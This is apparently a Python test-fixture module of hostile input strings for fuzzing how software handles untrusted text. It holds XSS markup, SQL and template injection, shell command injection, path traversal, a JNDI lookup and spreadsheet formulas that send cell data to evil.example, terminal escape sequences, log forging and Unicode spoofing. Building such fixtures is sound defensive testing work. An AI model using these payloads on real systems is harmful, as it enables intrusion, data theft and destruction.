"""Texts that mean harm where they are taken for more than text: pages, sheets, queries, logs, terminals."""

from __future__ import annotations

from itertools import product

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<template><script>alert(1)</script></template>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action='https://evil.example/'><button>x</button></form>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]
BREAKING_OUT = ["", '"', "'", "`", "\\", "-->", '">', "'>", "{{", "${", "%}", "*/"]
QUERIES = [
    "'; DROP TABLE work_item; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "1); DELETE FROM finding; --",
    "%' UNION SELECT hash FROM audit_entry --",
    "\\'; SELECT pg_sleep(9); --",
    "') ORDER BY project --",
    '" OR project = SECRET OR summary ~ "',
    "project = PAY) OR (project = HR",
    "reporter = currentUser() OR text ~ x",
    "%s %d %(x)s {0} {x!r} {0.__class__}",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "$(reboot) `reboot` | reboot; reboot && reboot",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "%n%n%n%n %x",
]
FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/","x")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    'DDE("cmd";"/C calc";"x")',
]
BEFORE = ["", " ", "\u00a0", "\t", "\r", "\n", "'", '"', "x\n", "x\r\n", ";", ","]
TERMINAL = [
    "\x1b[31mred",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP$q\x1b\\",
    "\x1b[6n",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x07\x08\x08\x08",
    "\x7f\x7f",
    "\x0e\x0f",
    "ok\rnot ok",
    "\x00nul\x00",
    "\x1b[?1049h",
]
LINES = [
    "2026-01-01 00:00 ERROR a line that nobody wrote",
    "Content-Type: text/html",
    "run 99: done",
    '[{"problems": []}]',
]
BREAKS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"]
LOOKS = [
    "\u202egnp.exe",
    "\u202dabc\u202c",
    "\u2066abc\u2069",
    "\u2067abc",
    "\u200e\u200f",
    "zero\u200bwidth\u200d\u2060",
    "\ufeffmark",
    "soft\u00adhyphen",
    "Z\u0351\u036b\u0343a\u0300\u0301l\u0302\u0303g\u0304o",
    "\u0430dmin",
    "\U000e0001\U000e0041tags",
    "\ufdd0\ufffe",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0628\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "|a|b|\n|-|-|",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "# heading\n* item\n> quote",
    "```\ncode\n```",
    "<https://evil.example/>",
    "@channel <!here> <@U1>",
]
LONG = "<b>" + "=1+1\x1b[31m " * 100_000

TEXTS = (
    *MARKUP,
    *(before + "<script>alert(1)</script>" for before in BREAKING_OUT[1:]),
    *QUERIES,
    *(before + formula for before, formula in product(BEFORE, FORMULAS)),
    *TERMINAL,
    *("x" + end + line for end, line in product(BREAKS, LINES)),
    *LOOKS,
)
